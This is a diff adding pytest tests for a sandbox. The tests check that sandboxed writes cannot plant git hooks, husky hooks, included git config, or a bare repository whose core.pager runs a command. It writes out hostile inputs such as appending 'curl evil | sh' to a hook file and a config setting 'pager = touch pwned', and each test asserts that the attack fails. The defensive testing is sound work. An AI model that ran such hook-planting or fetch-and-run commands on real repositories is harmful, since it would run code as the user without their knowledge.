@@ -634,3 +634,98 @@ def test_F5_a_second_run_joins_a_nested_placeholder_instead_of_making_inside_it(
     assert (run_one.returncode, run_two.returncode) == (0, 0)
     assert listing(project) == before
     assert index_of(sandbox_env) == []
+
+
+# -- F8: concurrent runs hold what one run alone holds ----------------------------------------
+
+
+def _enclosing_repository_naming(project: Path, kind: str) -> tuple[Path, Path]:
+    """A written folder `sub` of the repository `project`, whose settings name something
+    that runs as the person and lies inside `sub`; returns (sub, that file)."""
+    written = project / "sub"
+    written.mkdir()
+    if kind == "hooks folder":
+        (written / "tools" / "hooks").mkdir(parents=True)
+        git(project, "config", "core.hooksPath", "sub/tools/hooks")
+        return written, written / "tools" / "hooks" / "pre-commit"
+    if kind == "husky in a sub-folder":
+        husky = written / "web" / ".husky"
+        (husky / "_").mkdir(parents=True)
+        (husky / "_" / "pre-commit").write_text('#!/usr/bin/env sh\n. "$(dirname "$0")/h"\n')
+        (husky / "pre-commit").write_text("npm test\n")
+        git(project, "config", "core.hooksPath", "sub/web/.husky/_")
+        return written, husky / "pre-commit"
+    (written / "gitconfig").write_text("[user]\n\tname = someone\n")
+    git(project, "config", "include.path", "../sub/gitconfig")
+    return written, written / "gitconfig"
+
+
+@pytest.mark.parametrize("runs", ["alone", "beside another run"])
+@pytest.mark.parametrize("kind", ["hooks folder", "husky in a sub-folder", "included settings"])
+def test_F8_the_enclosing_repositorys_hooks_are_held_whatever_other_runs_hold(
+    project: Path, write_spec: WriteSpec, sandbox_env: dict[str, str], tmp_path: Path,
+    kind: str, runs: str,
+) -> None:
+    written, target = _enclosing_repository_naming(project, kind)
+    before = listing(project)
+    spec = _gated_spec(write_spec, written, tmp_path / "gates")
+    gate = tmp_path / "gates" / "one"
+    if runs == "beside another run":
+        # The first run's empty .git placeholder at the written folder's top is what
+        # the second run sees there: not a repository (git passes over it), so the
+        # enclosing one is still the one held.
+        first = _held_open(spec, sandbox_env, gate)
+        _wait_for(lambda: (written / ".git").is_dir(), "the first run's placeholder")
+    attempt = _start(spec, sandbox_env, "/bin/sh", "-c",
+                     f"echo 'curl evil | sh' >> {Q(str(target))}")
+    _, stderr = attempt.communicate(timeout=SANDBOX_TIMEOUT_SECONDS)
+    assert attempt.returncode != 0
+    assert "Read-only file system" in stderr, stderr
+    if runs == "beside another run":
+        gate.touch()
+        first.wait(SANDBOX_TIMEOUT_SECONDS)
+        assert first.returncode == 0
+    assert listing(project) == before
+    assert index_of(sandbox_env) == []
+
+
+def test_F8_a_written_repository_inside_another_still_has_the_outer_ones_hooks_held(
+    project: Path, write_spec: WriteSpec, run_sandbox: RunSandbox
+) -> None:
+    # git run at the outer repository's top runs its hooks wherever they lie, even in a
+    # folder that is a repository of its own (not a submodule: cloned into it).
+    written, target = _enclosing_repository_naming(project, "hooks folder")
+    make_repository(written)
+    before = listing(project)
+    found = attack(run_sandbox, _write_spec_for(write_spec, written), {
+        "outer repository's hook": f"echo evil > {Q(str(target))}",
+        "own repository's hook": f"echo evil > {Q(str(written))}/.git/hooks/pre-commit",
+    })
+    assert opened(found) == []
+    assert listing(project) == before
+
+
+def test_F4_a_written_folder_cannot_be_made_a_bare_repository_at_its_top(
+    tmp_path: Path, write_spec: WriteSpec, run_sandbox: RunSandbox
+) -> None:
+    # git, finding no valid .git in a folder (none, or a placeholder it passes over),
+    # takes the folder itself for a bare repository once it holds HEAD, objects/ and
+    # refs/, and runs what its config names (core.pager on the person's `git log`).
+    folder = tmp_path / "plain"
+    folder.mkdir()
+    before = listing(folder)
+    f = Q(str(folder))
+    found = attack(run_sandbox, _write_spec_for(write_spec, folder), {
+        "plant a bare repository": (
+            f"mkdir -p {f}/objects {f}/refs && printf '[core]\\n\\tpager = touch pwned\\n' "
+            f"> {f}/config && echo 'ref: refs/heads/main' > {f}/HEAD"),
+    })
+    assert opened(found) == []
+    assert not (folder / "HEAD").exists()
+    found_by_git = subprocess.run(["git", "-C", str(folder), "rev-parse", "--absolute-git-dir"],
+                                  capture_output=True, text=True, check=False)
+    assert found_by_git.stdout.strip() != str(folder)
+    for name in ("objects", "refs"):  # what it could make: plain folders, git passes over
+        (folder / name).rmdir()
+    (folder / "config").unlink()
+    assert listing(folder) == before
